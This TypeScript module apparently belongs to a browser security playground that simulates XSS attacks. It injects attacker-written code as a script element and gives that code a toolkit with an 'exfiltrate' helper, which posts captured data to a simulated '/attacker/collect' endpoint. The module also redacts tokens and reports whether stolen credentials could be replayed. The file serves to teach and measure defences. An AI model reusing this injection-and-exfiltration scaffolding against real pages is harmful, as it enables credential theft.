// Runs attacker code in the page the way an XSS injection does: as a <script> element appended
// to the document (never eval or new Function in our code). The script gets an `attacker`
// helper object for logging and for talking to the attacker's server.
import type { ProbeVerdict } from './protocol.js';
import { randomId } from './protocol.js';

// Captured at load, before any attacker script runs, so the playground's own reporting keeps
// working while a payload has patched fetch or JSON.
const realFetch = window.fetch.bind(window);
const realStringify = JSON.stringify;
const realParse = JSON.parse;

/** Redacts anything that looks like a credential: the playground never prints one on screen. */
export function redact(s: string): string {
  return s
    .replace(/ptk_[A-Za-z0-9_-]{43}/g, (t) => `${t.slice(0, 8)}…[token, ${t.length} chars]`)
    .replace(/[A-Za-z0-9_\-+/=.~%]{48,}/g, (t) => `${t.slice(0, 6)}…[${t.length} chars]`);
}

export interface AttackRun {
  probe: string;
  verdict: ProbeVerdict | null;
  error: string | null;
}

const stash: unknown[] = [];

export async function fetchVerdict(probe: string): Promise<ProbeVerdict> {
  const r = await realFetch(`/api/probes/${probe}`, { cache: 'no-store' });
  return realParse(await r.text()) as ProbeVerdict;
}

/**
 * Injects `code` as an attacker script and resolves when it calls done (or after a timeout).
 * @param log receives each line the script logs
 */
export function runAttack(
  code: string,
  api: string,
  log: (line: string) => void,
  timeoutMs = 25_000,
): Promise<AttackRun> {
  const probe = randomId();
  const name = `__attacker_${probe}`;
  return new Promise((resolve) => {
    let finished = false;
    let started = false;
    const finish = async (error: string | null) => {
      if (finished) return;
      finished = true;
      clearTimeout(timer);
      window.removeEventListener('error', onError);
      delete (window as unknown as Record<string, unknown>)[name];
      let verdict: ProbeVerdict | null = null;
      try {
        verdict = await fetchVerdict(probe);
      } catch {}
      resolve({ probe, verdict, error });
    };
    const onError = (e: ErrorEvent) => {
      if (!started) log(`script error: ${e.message}`);
    };
    const toolkit = Object.freeze({
      probe,
      api,
      started: () => {
        started = true;
      },
      log: (...parts: unknown[]) =>
        log(redact(parts.map((p) => (typeof p === 'string' ? p : String(p))).join(' '))),
      peek: (v: unknown, max = 40) => {
        const s = typeof v === 'string' ? v : String(v);
        if (s === '') return "''";
        const r = redact(s);
        return r.length > max ? `${r.slice(0, max)}… (${s.length} chars)` : r;
      },
      url: (path: string, via: string) => {
        const base = path.startsWith('/') ? path : api + path;
        return `${base}${base.includes('?') ? '&' : '?'}probe=${probe}&via=${encodeURIComponent(via)}`;
      },
      wait: (ms: number) => new Promise((r) => setTimeout(r, ms)),
      stash: (v: unknown) => {
        stash.push(v);
      },
      stashed: () => stash.slice(),
      exfiltrate: async (data: unknown) => {
        const body = typeof data === 'string' ? data : realStringify(data);
        const r = await realFetch(`/attacker/collect?probe=${probe}`, {
          method: 'POST',
          headers: { 'content-type': 'text/plain' },
          body: body.slice(0, 60_000),
        });
        return realParse(await r.text());
      },
      verdict: () => fetchVerdict(probe),
      report: (v: unknown) => {
        const verdict = v as {
          live?: { kind: string; strategy: string; replay: string }[];
          replays?: { method: string; path: string; result: string }[];
        } | null;
        for (const r of verdict?.replays ?? [])
          log(`attacker's server: replayed a captured signed ${r.method} ${r.path} — ${r.result}`);
        if (verdict && Array.isArray(verdict.live)) {
          if (verdict.live.length === 0) log("attacker's server: nothing usable in what it received");
          for (const l of verdict.live)
            log(`attacker's server: got a live ${l.kind} (${l.strategy}) — ${l.replay}`);
        }
      },
      done: () => void finish(null),
    });
    (window as unknown as Record<string, unknown>)[name] = toolkit;
    window.addEventListener('error', onError);
    const timer = setTimeout(() => {
      log('(timed out waiting for the script to finish)');
      void finish('timeout');
    }, timeoutMs);
    const script = document.createElement('script');
    script.textContent = `(async (attacker) => { attacker.started();\ntry {\n${code}\n} catch (e) { attacker.log('error: ' + (e && e.message || e)); } finally { attacker.done(); }\n})(window.${name});`;
    document.body.append(script);
    script.remove();
    if (!started) void finish('syntax error');
  });
}

/** One line per verdict, for the page and for the summary. */
const VIA: Record<string, string> = {
  'stolen-token': 'a stolen token (works off-site too)',
  ambient: 'the ambient cookie',
  'app-client': "the page's own API helper",
  img: '<img>',
  form: 'form post',
  'cross-site': 'a cross-site form post',
};
const via = (v: string | null) => (v ? (VIA[v] ?? v) : 'direct');

export function describeVerdict(v: ProbeVerdict | null): {
  readable: string;
  usable: string;
  autoSent: string;
} {
  if (!v) return { readable: 'unknown', usable: 'unknown', autoSent: 'unknown' };
  const live = v.exfiltrated.flatMap((e) => e.live);
  const found = [...new Set(live.map((l) => `${l.kind}, ${l.replay}`))];
  const bytes = v.exfiltrated.reduce((a, e) => a + e.bytes, 0);
  const readable = live.length
    ? `yes — ${found.join('; ')}`
    : v.exfiltrated.length
      ? `no — ${bytes} bytes reached the attacker's server, no live credential in them`
      : 'not tried by this payload';
  const okUses = v.uses.filter((u) => u.authenticated);
  const usable = v.uses.length
    ? okUses.length
      ? `yes — through ${[...new Set(okUses.map((u) => via(u.via)))].join(' and ')}`
      : `no — ${v.uses.length} attempt(s), all refused`
    : 'not tried by this payload';
  const okAuto = v.autoSentRequests.filter((u) => u.authenticated);
  const noAuto = v.autoSentRequests.filter((u) => !u.authenticated);
  const parts = [
    okAuto.length ? `${okAuto.map((u) => via(u.via)).join(' and ')} arrived authenticated` : '',
    noAuto.length ? `${noAuto.map((u) => via(u.via)).join(' and ')} arrived without a credential` : '',
  ].filter(Boolean);
  const autoSent = v.autoSentRequests.length
    ? `${okAuto.length ? 'yes' : 'no'} — ${parts.join('; ')}`
    : 'not tried by this payload';
  return { readable, usable, autoSent };
}
